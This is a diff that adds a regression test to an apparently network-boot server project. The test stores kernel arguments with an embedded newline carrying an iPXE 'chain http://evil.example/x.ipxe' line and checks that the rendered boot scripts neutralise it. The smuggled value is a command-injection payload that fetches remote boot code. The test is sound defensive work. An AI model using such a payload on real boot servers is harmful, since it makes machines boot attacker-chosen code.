@@ -542,3 +542,16 @@ def test_off_mode_reports_need_the_boots_credential(srv):
     old = srv.node_token(MAC)
     assert srv.report(MAC, "events", {"stage": "initramfs"})[0] == 202  # a new boot: `old` is superseded
     assert srv.request("POST", f"/api/v1/nodes/{MAC}/events", {"stage": "initramfs"}, token=old)[0] == 403
+
+
+def test_a_stored_newline_never_breaks_out_of_the_script_line(srv):
+    """A kernel_args stored before inputs refused control characters (an old database) still
+    renders on the kernel's line: the renderers turn control characters into spaces."""
+    from ramboot.inventory.store import NodeSpec
+
+    srv.store.put_node(NodeSpec(mac=MAC, image="demo", kernel_args="quiet\nchain http://evil.example/x.ipxe\r"))
+    for path in (f"/boot/{MAC.replace(':', '-')}.ipxe", f"/pxelinux.cfg/01-{MAC.replace(':', '-')}"):
+        with urllib.request.urlopen(srv.base + path, timeout=5) as r:
+            text = r.read().decode()
+        assert "quiet chain http://evil.example/x.ipxe" in text, text
+        assert not any(ln.lstrip().startswith("chain") for ln in text.splitlines()) and "\r" not in text, text
